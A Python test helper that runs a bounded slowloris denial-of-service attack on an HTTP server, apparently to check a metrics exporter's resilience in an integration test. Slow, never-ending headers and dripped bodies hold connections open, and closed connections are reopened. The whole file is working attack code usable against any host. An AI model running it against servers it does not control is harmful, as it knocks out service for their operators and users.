#!/usr/bin/python3
"""prom-slowloris.py -- a bounded slowloris against one HTTP server.

Usage: prom-slowloris.py HOST PORT N INTERVAL DURATION [NBODY]

Keeps N connections open to HOST:PORT for DURATION seconds.  Each sends
a request line, then one more header line every INTERVAL seconds, and
never ends its header.  NBODY more connections (default 0) send a whole
GET header announcing a 100 MB body, then one body line every INTERVAL
seconds.  A connection the server closes is opened again
one second later, so the attack keeps its size for as long as it runs.
At the end it prints

    opened=A closed_by_server=B max_open=S

A connections were opened in all, the server closed B of them, and the
longest any stayed open was S seconds (those still open count until the
end).  Used by tests/integration/052-exporter-slowloris.sh.
"""

import selectors
import socket
import sys
import time


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    n, interval, duration = (int(sys.argv[3]), float(sys.argv[4]),
                             float(sys.argv[5]))
    nbody = int(sys.argv[6]) if len(sys.argv) > 6 else 0
    n += nbody
    sel = selectors.DefaultSelector()
    start = time.monotonic()
    end = start + duration
    opened = closed = 0
    max_open = 0.0
    due = [start] * n           # When each slot (re)connects.
    conns = {}                  # socket -> [slot, opened at, next line at]

    def close(s, by_server):
        nonlocal closed, max_open
        slot, t0, _ = conns.pop(s)
        sel.unregister(s)
        s.close()
        max_open = max(max_open, time.monotonic() - t0)
        closed += by_server
        due[slot] = time.monotonic() + 1.0

    while True:
        now = time.monotonic()
        if now >= end:
            break
        for slot in range(n):
            if due[slot] is not None and due[slot] <= now:
                due[slot] = None
                try:
                    s = socket.create_connection((host, port), timeout=2)
                    s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
                    if slot < nbody:
                        s.sendall(b"Content-Length: 100000000\r\n\r\n")
                except OSError:
                    due[slot] = now + 1.0
                    continue
                s.setblocking(False)
                opened += 1
                # Connecting may have taken a while (a full backlog).
                t = time.monotonic()
                conns[s] = [slot, t, t + interval]
                sel.register(s, selectors.EVENT_READ)
        for s, st in list(conns.items()):
            if st[2] <= now:
                st[2] = now + interval
                try:
                    s.send(b"%s: %d\r\n" % (b"body" if st[0] < nbody
                                              else b"X-Slow",
                                              int(now - start)))
                except OSError:
                    close(s, True)
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                if s.recv(65536):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            close(s, True)
    now = time.monotonic()
    for s, st in conns.items():
        max_open = max(max_open, now - st[1])
        s.close()
    print("opened=%d closed_by_server=%d max_open=%.1f"
          % (opened, closed, max_open))


if __name__ == "__main__":
    main()
